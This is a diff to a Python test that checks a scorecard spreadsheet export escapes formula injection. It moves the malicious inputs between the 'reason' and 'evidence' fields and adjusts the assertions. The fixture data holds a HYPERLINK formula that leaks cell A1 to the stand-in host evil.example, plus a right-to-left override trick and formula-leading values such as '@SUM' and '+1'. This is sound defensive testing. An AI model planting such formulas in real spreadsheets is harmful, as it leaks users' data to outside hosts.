@@ -115,7 +115,7 @@ def test_scorecard_xlsx_neutralizes_formulas(tmp_path: Path) -> None:
     sheet = read_scorecard_xlsx(tmp_path / "card.xlsx")
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     ratings = {"third_party": {
-        "1.1": {"value": 8, "reason": evil, "evidence": f"+1{RLO}cmd"},
+        "1.1": {"value": 8, "reason": f"+1{RLO}cmd", "evidence": evil},
         "2.1": {"value": 80, "reason": "@SUM(A1:A2)", "evidence": "-2 files"}}}
     result = score_scorecard(sheet.spec, ratings=ratings)
     out = write_scorecard_xlsx(result, tmp_path / "card.xlsx", tmp_path / "scored.xlsx")
@@ -123,8 +123,8 @@ def test_scorecard_xlsx_neutralizes_formulas(tmp_path: Path) -> None:
     cells = [c for row in ws2.iter_rows() for c in row if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
     texts = [c.value for c in cells if isinstance(c.value, str)]
-    assert f"'第三方：{evil}" not in texts  # the rater prefix already makes it inert …
-    assert "'+1cmd" in texts and "'-2 files" in texts  # … and bare ones get a quote
+    assert "'" + evil in texts and "'-2 files" in texts  # evidence text, as typed
+    assert "第三方：+1cmd" in texts  # a reason starts with the rater's role: already inert
     assert not any(RLO in t for t in texts)
 
 
